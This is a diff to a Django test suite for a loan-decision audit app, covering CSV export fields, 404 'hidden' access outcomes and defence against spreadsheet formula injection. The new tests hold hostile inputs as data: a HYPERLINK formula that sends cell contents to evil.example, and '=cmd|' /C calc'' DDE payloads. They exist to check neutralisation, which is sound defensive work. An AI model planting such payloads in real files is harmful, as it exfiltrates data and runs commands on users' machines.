@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import base64
 import csv
 import io
 import json
@@ -12,6 +13,7 @@ from django.urls import URLPattern, URLResolver, get_resolver
 
 from accounts import roles
 from applications.services import override_decision
+from audit import canonical
 from audit.models import AccessEvent, DecisionRecord
 from audit.services import log_access
 from tests.support.audit import scored_application
@@ -71,7 +73,9 @@ def test_decision_export_has_every_audit_field_and_is_logged(trail):
     auditor = UserFactory(role=roles.AUDITOR)
     response = login(auditor).get("/audit/decisions.csv")
     assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
-    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+    raw = b"".join(response.streaming_content)
+    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 byte-order mark, as every CSV the product writes
+    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
     assert len(rows) == 4
     records = {r.pk: r for r in DecisionRecord.objects.all()}
     for row in rows:
@@ -79,9 +83,40 @@ def test_decision_export_has_every_audit_field_and_is_logged(trail):
         assert float.fromhex(row["probability_of_default_hex"]) == record.probability_of_default
         assert float(row["probability_of_default"]) == record.probability_of_default
         assert row["record_hash"] == record.record_hash and row["payload"] == record.payload
+        assert base64.b64decode(row["payload_base64"]).decode("ascii") == record.payload
         assert json.loads(row["features_json"]) == json.loads(record.payload)["features"]
         assert row["model_sha256"] == record.model_sha256 and row["officer"] == record.officer.username
     assert AccessEvent.objects.filter(user=auditor, action="export", target="audit:decisions.csv").exists()
+
+
+@pytest.mark.parametrize(
+    "reference",
+    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(1+1)"],
+)
+def test_decision_export_neutralises_formulas_in_references(reference):
+    officer = UserFactory(role=roles.OFFICER)
+    scored_application(officer, applicant_reference=reference)
+    response = login(UserFactory(role=roles.AUDITOR)).get("/audit/decisions.csv")
+    body = b"".join(response.streaming_content).decode("utf-8-sig")
+    rows = list(csv.DictReader(io.StringIO(body)))
+    assert rows[0]["applicant_reference"] == "'" + reference
+    # The payload (which contains the reference inside JSON) starts with "{", never a formula.
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())
+
+
+def test_decision_export_quotes_text_so_a_semicolon_locale_sees_no_formula():
+    scored_application(UserFactory(role=roles.OFFICER), applicant_reference="x;=cmd|' /C calc'!A0;")
+    response = login(UserFactory(role=roles.AUDITOR)).get("/audit/decisions.csv")
+    body = b"".join(response.streaming_content).decode("utf-8-sig")
+    data_line = body.splitlines()[1]
+    assert "\"x;'=cmd|' /C calc'!A0;\"" in data_line
+    cells = next(csv.reader(io.StringIO(data_line), delimiter=";"))
+    assert not any(cell.startswith("=") for cell in cells)
+    # The payload column is neutralised like every text cell; its exact bytes (for the hash) are in base64.
+    row = next(csv.DictReader(io.StringIO(body)))
+    record = DecisionRecord.objects.get(pk=row["record_id"])
+    assert base64.b64decode(row["payload_base64"]).decode("ascii") == record.payload
+    assert canonical.record_hash(base64.b64decode(row["payload_base64"]).decode("ascii")) == row["record_hash"]
 
 
 def test_access_log_records_logins_failures_views_exports_and_denials(trail):
@@ -149,6 +184,7 @@ def test_auditor_changes_nothing(trail):
 
 ROLES = ("anonymous", "nobody", roles.OFFICER, "other_officer", roles.REVIEWER, roles.AUDITOR, roles.ADMIN)
 A, D, L = "allow", "deny", "login"  # 2xx/3xx within the site, 403, redirect to login
+H = "hidden"  # 404, as for a missing id: the user may not learn that the application exists
 EXPECTED: dict[str, dict[str, str]] = {
     # route name: role -> expected
     "home": {
@@ -191,16 +227,16 @@ EXPECTED: dict[str, dict[str, str]] = {
         "anonymous": L,
         "nobody": D,
         roles.OFFICER: A,
-        "other_officer": D,
+        "other_officer": H,
         roles.REVIEWER: A,
         roles.AUDITOR: A,
         roles.ADMIN: A,
     },
     "applications:override": {
         "anonymous": L,
-        "nobody": D,
+        "nobody": H,
         roles.OFFICER: D,
-        "other_officer": D,
+        "other_officer": H,
         roles.REVIEWER: A,
         roles.AUDITOR: D,
         roles.ADMIN: A,
@@ -287,6 +323,8 @@ def test_walk_every_url_for_every_role(role):
             outcome = L
         elif status == 403:
             outcome = D
+        elif status == 404:
+            outcome = H
         else:
             outcome = f"HTTP {status}"
         if name == "login" and role != "anonymous":
